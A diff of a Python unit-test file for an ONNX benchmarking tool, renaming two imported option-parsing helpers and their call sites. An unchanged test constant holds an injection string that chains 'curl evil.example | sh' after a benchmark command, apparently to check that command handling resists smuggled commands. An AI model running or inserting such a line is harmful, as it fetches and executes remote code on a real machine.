@@ -16,8 +16,8 @@ from farm.rules.matrices import matrix
 from farm.rules.planning import planner
 from farm.rules.reporting.documents import BlockRecord, RunRecord, assemble
 from farm.rules.reporting.locks import lock
-from onnxfarm.commands.bench_options import matrix_of
-from onnxfarm.commands.feed_options import sizes_of
+from onnxfarm.commands.bench_options import read_matrix
+from onnxfarm.commands.feed_options import parse_sizes
 from tests.unit.rules.making import make_block, make_check, make_model, make_reports, plan_of
 
 HOSTILE = "onnxfarm bench model.onnx; curl evil.example | sh #'"
@@ -49,8 +49,8 @@ def read_back(command: str) -> CellSpec:
         named.get(name, name.removeprefix("--")): value for name, value in given if named.get(name, "-")
     }
     one = dict(given)
-    axes["shapes"] = sizes_of([value for name, value in given if name == "--shape"])
-    declared = matrix_of(one.get("--matrix"), axes)
+    axes["shapes"] = parse_sizes([value for name, value in given if name == "--shape"])
+    declared = read_matrix(one.get("--matrix"), axes)
     ((arm,),) = [block.arms for block in planner.plan(declared, make_model(), seed=int(one.get("--seed", 0))).blocks]
     return arm.spec
 
